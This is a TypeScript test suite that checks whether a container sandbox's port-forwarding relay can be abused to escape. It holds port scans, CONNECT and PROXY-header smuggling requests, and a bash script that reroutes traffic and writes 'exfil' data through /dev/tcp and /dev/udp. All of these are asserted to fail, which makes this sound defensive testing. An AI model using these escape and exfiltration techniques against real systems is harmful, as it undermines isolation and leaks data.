import { afterAll, beforeAll, expect, test } from "bun:test";
import * as net from "node:net";
import { runBottle } from "../../helpers/cli.ts";
import { docker } from "../../helpers/docker.ts";
import {
  type Attacker,
  type Sniffer,
  SETUP_TIMEOUT_MS,
  TEST_TIMEOUT_MS,
  bridgeDevice,
  describeEscape,
  ensureToolsImage,
  gateResolves,
  hostIpv4s,
  networkGateways,
  probe,
  probeFromHost,
  runInNetns,
  startBridgeSniffer,
  tearDown,
  upAttacker,
} from "../../helpers/escape-world.ts";
import { hostPortOf, httpGet, printedHostPort, startWebServer } from "../../helpers/ports.ts";
import { containerIp } from "../../helpers/world.ts";

/**
 * A forwarded port is a way in from the host to one port of the bottle, and
 * nothing else: the relay publishes that port on 127.0.0.1 only, listens
 * nowhere else, forwards only to the bottle's port whatever a client asks,
 * and is no way out for the bottle (nothing of it answers on the bottle's
 * network, it routes nothing, its ports network is out of reach) nor a way
 * in for another bottle. Each attack here fails against a relay with one
 * defence off (ESCAPE_MUTATE=relay-any-target, relay-listen-internal,
 * relay-bind-all, bottle-on-ports; relay-bind-all,vet for the other
 * bottle's way through its gate; relay-forwarding, which Docker's isolation
 * of the internal network masks, is caught by reading the relay's sysctl).
 */

const NOT_OPEN = /^(timeout|error:\w+)$/;

/** Every TCP port of `host` that accepts a connection from this machine (batches of connects; refusals come back at once). */
async function openPortsFromHost(host: string, from = 1, to = 65535): Promise<number[]> {
  const open: number[] = [];
  for (let start = from; start <= to; start += 2000) {
    const ports = Array.from({ length: Math.min(2000, to - start + 1) }, (_, i) => start + i);
    await Promise.all(
      ports.map(
        (port) =>
          new Promise<void>((resolve) => {
            const socket = net.connect({ host, port });
            const done = () => {
              clearTimeout(timer);
              socket.destroy();
              resolve();
            };
            const timer = setTimeout(done, 2000);
            socket.once("connect", () => {
              open.push(port);
              done();
            });
            socket.once("error", done);
          }),
      ),
    );
  }
  return open.sort((a, b) => a - b);
}

/** Sends `request` to 127.0.0.1:`port` and reads the answer until the relay closes (at most 4 s). */
function rawExchange(port: number, request: string, then?: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: "127.0.0.1", port });
    let answer = "";
    let sentThen = false;
    const timer = setTimeout(() => socket.destroy(), 4000);
    socket.on("data", (chunk) => {
      answer += chunk.toString("latin1");
      // After a CONNECT's answer, what a client would send through the tunnel.
      if (then && !sentThen && answer.includes("\r\n\r\n")) {
        sentThen = true;
        socket.write(then);
      }
    });
    socket.on("close", () => {
      clearTimeout(timer);
      resolve(answer);
    });
    socket.on("error", () => undefined);
    socket.write(request);
  });
}

describeEscape(["docker"], "forwarded ports are the docker backend's (the smolmachines backend cannot forward one)", "escape through a forwarded port", () => {
  let attacker: Attacker;
  let victim: Attacker;
  let tools = "";
  let hostService: ReturnType<typeof Bun.serve> | undefined;
  let hostServiceHits = 0;
  let hostPort = 0;
  let relay = "";
  let bottleIp = "";
  let relayPortsIp = "";
  let relayInternalIp = "";
  let portsGateway = "";
  const sniffers: Sniffer[] = [];

  beforeAll(async () => {
    tools = ensureToolsImage();
    // A service on the Docker host, on all its addresses: what the bottle must not reach through a relay.
    hostService = Bun.serve({
      hostname: "0.0.0.0",
      port: 0,
      fetch: () => {
        hostServiceHits++;
        return new Response("host service\n");
      },
    });
    attacker = await upAttacker({ prefix: "esc-ports", manifest: ["ports: [3000]", "egress:", "  allow: [allowed.test]"] });
    relay = `${attacker.name}-port-3000`;
    bottleIp = containerIp(attacker.name, `${attacker.name}-internal`);
    relayPortsIp = containerIp(relay, `${attacker.name}-ports`);
    relayInternalIp = containerIp(relay, `${attacker.name}-internal`);
    portsGateway = networkGateways(`${attacker.name}-ports`)[0]!;
    hostPort = await hostPortOf(attacker.sandbox, attacker.name, 3000);
    // The forwarded port and one that is not.
    await startWebServer(attacker.sandbox, attacker.name, ["3000", "4000"]);
    victim = await upAttacker({
      prefix: "esc-ports-victim",
      // Opted in on purpose: even an allowed, private name for the attacker's ports network must not lead to its port.
      manifest: ["egress:", `  allow: [portsgw.test:${hostPort}]`, "  allow_private: [portsgw.test]"],
      sandbox: attacker.sandbox,
    });
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    for (const sniffer of sniffers) sniffer.stop();
    hostService?.stop(true);
    if (victim) await tearDown(victim.sandbox, [victim.name], [victim.agent]);
    if (attacker) await tearDown(attacker.sandbox, [attacker.name], [attacker.agent]);
  }, SETUP_TIMEOUT_MS);

  test(
    "from the host only the forwarded port answers, on 127.0.0.1 only: one published port, one listener, the bottle itself out of reach",
    async () => {
      // Control: the forwarded port answers.
      expect(await httpGet(`http://127.0.0.1:${hostPort}/`)).toBe("hello from port 3000 /\n");
      const published = JSON.parse(docker("container", "inspect", "--format", "{{json .NetworkSettings.Ports}}", relay));
      expect(published).toEqual({ "3000/tcp": [{ HostIp: "127.0.0.1", HostPort: String(hostPort) }] });
      // The relay's own address (which this machine can reach on the bridge): one port of all.
      expect(await openPortsFromHost(relayPortsIp)).toEqual([3000]);
      // The bottle's network has no route from here (a network beyond this machine may accept any connection to an
      // address it does not have, as a transparent proxy does): only an answer of the bottle's server would count.
      for (const url of [`http://${bottleIp}:3000/`, `http://${bottleIp}:4000/`, `http://${relayInternalIp}:3000/`]) {
        const answer = await httpGet(url);
        expect({ url, reached: answer.includes("hello from port") }).toEqual({ url, reached: false });
      }
      const results = probeFromHost([
        // The host's other addresses: the port is published on loopback only.
        ...hostIpv4s().map((ip) => ({ id: `host ${ip}:${hostPort}`, proto: "tcp" as const, host: ip, port: hostPort })),
        { id: `ports gateway ${portsGateway}:${hostPort}`, proto: "tcp", host: portsGateway, port: hostPort },
      ]);
      for (const [id, result] of Object.entries(results)) expect({ id, result }).toEqual({ id, result: expect.stringMatching(NOT_OPEN) });
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "through the relay, only the bottle's port: CONNECT, absolute URLs and a PROXY header for its other port, the host or the relay all reach port 3000's server",
    async () => {
      const hitsBefore = hostServiceHits;
      const elsewhere = [`${bottleIp}:4000`, `127.0.0.1:4000`, `${portsGateway}:${hostService!.port}`, `${relayPortsIp}:${hostPort}`, `host.docker.internal:${hostService!.port}`];
      const answers: Record<string, string> = {};
      for (const target of elsewhere) {
        answers[`CONNECT ${target}`] = await rawExchange(hostPort, `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`, `GET /through-tunnel HTTP/1.1\r\nHost: ${target}\r\nConnection: close\r\n\r\n`);
        answers[`GET http://${target}/`] = await rawExchange(hostPort, `GET http://${target}/absolute HTTP/1.1\r\nHost: ${target}\r\nConnection: close\r\n\r\n`);
      }
      answers["PROXY header"] = await rawExchange(hostPort, `PROXY TCP4 127.0.0.1 ${bottleIp} 50000 4000\r\nGET /proxied HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      const who = (answer: string) => /hello from port \d+|host service/.exec(answer)?.[0] ?? "no answer";
      expect(Object.fromEntries(Object.entries(answers).map(([request, answer]) => [request, who(answer)]))).toEqual(
        Object.fromEntries(Object.keys(answers).map((request) => [request, "hello from port 3000"])),
      );
      expect(hostServiceHits).toBe(hitsBefore);
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "from inside the bottle the relay is no way out: nothing answers on its address there, its other address and the host behind it are out of reach",
    async () => {
      const hitsBefore = hostServiceHits;
      const results = await probe(attacker, [
        { id: "relay internal", proto: "tcp", host: relayInternalIp, from: 1, to: 65535 },
        { id: `relay ports side ${relayPortsIp}:3000`, proto: "tcp", host: relayPortsIp, port: 3000 },
        { id: `ports gateway ${portsGateway}:${hostService!.port}`, proto: "tcp", host: portsGateway, port: hostService!.port },
        { id: `ports gateway ${portsGateway}:${hostPort}`, proto: "tcp", host: portsGateway, port: hostPort },
        ...hostIpv4s().map((ip) => ({ id: `host ${ip}:${hostService!.port}`, proto: "tcp" as const, host: ip, port: hostService!.port })),
      ]);
      // (Of the relay's 65535 ports only those not refused are listed.)
      expect(Object.entries(results).filter(([, result]) => !NOT_OPEN.test(result))).toEqual([]);
      const out = await attacker.sh(
        [
          "getent hosts host.docker.internal || echo no-address",
          `curl -sS --connect-timeout 2 --max-time 4 -D - -o /dev/null http://${relayPortsIp}:3000/ | grep -i '^X-Bottle-Egress-Rule' | tr -d '\\r'`,
          `curl -sS --connect-timeout 2 --max-time 4 -D - -o /dev/null http://${relay}:3000/ | grep -i '^X-Bottle-Egress-Rule' | tr -d '\\r'`,
        ].join("; "),
      );
      expect(out.stdout.trim().split("\n")).toEqual(["no-address", "X-Bottle-Egress-Rule: ip-literal", "X-Bottle-Egress-Rule: not-allowed"]);
      expect(hostServiceHits).toBe(hitsBefore);
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "defence in depth: with CAP_NET_ADMIN in the bottle's namespace and its default route via the relay, no packet of it leaves on the ports side; the relay would not route one",
    async () => {
      const hitsBefore = hostServiceHits;
      // Docker's isolation of the internal network drops what leaves its subnet before the relay sees it; the relay's own
      // forwarding is off besides (a second layer, which that isolation keeps an attack from showing): read in its namespace.
      const sysctls = runInNetns(tools, relay, attacker.label, [], ["cat", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/forwarding"]);
      expect(sysctls.stdout.split("\n").filter(Boolean)).toEqual(["0", "0"]);
      const sniffer = startBridgeSniffer(tools, bridgeDevice(`${attacker.name}-ports`), attacker.label, ["src", "host", bottleIp]);
      sniffers.push(sniffer);
      const out = runInNetns(tools, attacker.name, attacker.label, ["NET_ADMIN"], [
        "bash",
        "-c",
        `orig=$(ip route show default | head -1); ip route replace default via ${relayInternalIp} && ip route get ${portsGateway}; ` +
          `for target in ${portsGateway}/${hostService!.port} 192.0.2.1/80; do timeout 3 bash -c "echo > /dev/tcp/$target" && echo LEAK-$target; done; ` +
          `for i in 1 2 3; do echo exfil > /dev/udp/${portsGateway}/9999; done; ` +
          `ip route del default; [ -z "$orig" ] || ip route add $orig; exit 0`,
      ]);
      expect(out.stdout).toContain(`via ${relayInternalIp}`);
      expect(out.stdout).not.toContain("LEAK");
      const capture = sniffer.stop();
      sniffers.splice(sniffers.indexOf(sniffer), 1);
      expect(capture).toContain("listening on");
      expect(capture.split("\n").filter((line) => /^\d\d:\d\d:\d\d\.\d+ /.test(line))).toEqual([]);
      expect(hostServiceHits).toBe(hitsBefore);
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "another bottle cannot reach the forwarded port: not the relay, not the bottle, not the host's side, not through its gate",
    async () => {
      const results = await probe(victim, [
        { id: `relay ports side ${relayPortsIp}:3000`, proto: "tcp", host: relayPortsIp, port: 3000 },
        { id: `relay internal ${relayInternalIp}:3000`, proto: "tcp", host: relayInternalIp, port: 3000 },
        { id: `bottle ${bottleIp}:3000`, proto: "tcp", host: bottleIp, port: 3000 },
        { id: `ports gateway ${portsGateway}:${hostPort}`, proto: "tcp", host: portsGateway, port: hostPort },
        ...hostIpv4s().map((ip) => ({ id: `host ${ip}:${hostPort}`, proto: "tcp" as const, host: ip, port: hostPort })),
      ]);
      for (const [id, result] of Object.entries(results)) expect({ id, result }).toEqual({ id, result: expect.stringMatching(NOT_OPEN) });
      // Its gate: by address (an IP literal), and by an allowed, opted-in name for the attacker's ports network (a Docker host address).
      gateResolves(victim, { "portsgw.test": portsGateway });
      const out = await victim.sh(
        [
          `curl -sS --connect-timeout 2 --max-time 4 http://127.0.0.1:${hostPort}/ || echo own-loopback-refused`,
          `curl -sS --connect-timeout 2 --max-time 5 -i http://${portsGateway}:${hostPort}/`,
          `curl -sS --connect-timeout 2 --max-time 5 -i http://portsgw.test:${hostPort}/`,
        ].join("; echo ==; "),
      );
      const [loopback = "", literal = "", named = ""] = out.stdout.split("==");
      expect(loopback).toContain("own-loopback-refused");
      const outcome = (response: string) => (response.includes("hello from port") ? "REACHED THE BOTTLE'S PORT" : (/X-Bottle-Egress-Rule: (\S+)/i.exec(response)?.[1] ?? "no answer"));
      expect({ literal: outcome(literal), named: outcome(named) }).toEqual({ literal: "ip-literal", named: "host-address" });
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "--bind 0.0.0.0 warns who can now connect, and only then the port answers on the host's other addresses",
    async () => {
      const add = await runBottle(attacker.sandbox, ["port", attacker.name, "4000", "--bind", "0.0.0.0"]);
      expect(add.exitCode).toBe(0);
      expect(add.stderr).toContain(`${attacker.name}'s port 4000 will be published on every address of this machine: anyone who can reach this machine there can connect`);
      const on = printedHostPort(add.stdout);
      try {
        const lan = hostIpv4s()[0]!;
        expect(await httpGet(`http://${lan}:${on}/lan`)).toBe("hello from port 4000 /lan\n");
      } finally {
        await runBottle(attacker.sandbox, ["port", attacker.name, "--rm", "4000"]);
      }
    },
    TEST_TIMEOUT_MS,
  );
});
